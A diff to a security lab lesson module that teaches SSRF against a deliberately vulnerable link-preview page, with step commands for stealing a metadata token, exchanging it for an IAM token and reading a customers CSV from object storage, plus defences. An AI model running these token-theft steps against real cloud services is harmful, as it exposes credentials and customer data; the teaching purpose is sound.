@@ -11,7 +11,7 @@ from identity.services.grants import COMPUTE_RESOURCE_LOGIN
 from identity.services.identity_tokens import EVENT as IDENTITY_TOKEN
 
 PAGE = "link-preview"
-"""How examples/ssrf/vulnerable.py calls itself in its requests."""
+"""How examples/ssrf/vulnerable.py calls itself in its requests, before whose it is."""
 OBJECT_READ = "cloud-object-storage.object.read"
 READ_TOKEN = member("access_token")
 
@@ -75,7 +75,7 @@ def _page_refused(evidence: Evidence, status: int, *, after: str) -> Any:
 
 
 def _by_the_page(event: ActivityEvent) -> bool:
-    return event.initiator_agent == PAGE
+    return event.initiator_agent.partition(" ")[0] == PAGE
 
 
 def _customers(evidence: Evidence) -> Any:
@@ -92,7 +92,7 @@ def _commands(place: Place) -> list[Command]:
     name, shop = place.server.name, place.name
     store = f"{place.control_plane}/cos/{shop}"
     steal = f"webhook PUT \\\n  \"$URL/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'"
-    use = f'curl -s {store}-customers/customers.csv \\\n  -H "Authorization: Bearer $IAM"; echo'
+    use = f'{place.curl} {store}-customers/customers.csv \\\n  -H "Authorization: Bearer $IAM"; echo'
     return [
         Command(
             "Something to steal",
@@ -120,7 +120,7 @@ def _commands(place: Place) -> list[Command]:
         ),
         Command(
             "Use it from elsewhere",
-            f"IAM=$(curl -s {place.control_plane}/identity/token \\\n"
+            f"IAM=$({place.curl} {place.control_plane}/identity/token \\\n"
             "  -d grant_type=urn:ibm:params:oauth:grant-type:cr-token \\\n"
             f'  -d cr_token="$STOLEN" -d profile_name={shop} \\\n  | {READ_TOKEN})\n{use}',
             "This part runs on your own machine. A token says who; it does not say from where. So the thief reads what "
@@ -156,7 +156,7 @@ def _commands(place: Place) -> list[Command]:
         Command(
             "Defence 3: a smaller profile",
             f"python3 {example('ssrf/shop.py')} small {shlex.quote(name)} {shop}\n{use}\n"
-            f'curl -s {store}-pages/index.html \\\n  -H "Authorization: Bearer $IAM"\nkill $PAGE',
+            f'{place.curl} {store}-pages/index.html \\\n  -H "Authorization: Bearer $IAM"\nkill $PAGE',
             "The thief still has the token, and it still works: for the pages, which everybody may see. This defence "
             "stops no theft. It is the only one that holds whatever the hole is, and it counts for tokens that are "
             "already stolen, as soon as a service asks what they may do.",
@@ -210,5 +210,5 @@ LESSON = Lesson(
     "169.254.169.254, as it is in a cloud. Programs in the lab trust Baremint's authority, so there the second "
     "defence stops http alone.",
     warning="The page is vulnerable on purpose. Stop it when you are done; it stops by itself after half an hour.",
-    prefers=lambda server: bool(getattr(server, "metadata_enabled", False)),
+    prefers=True,
 )
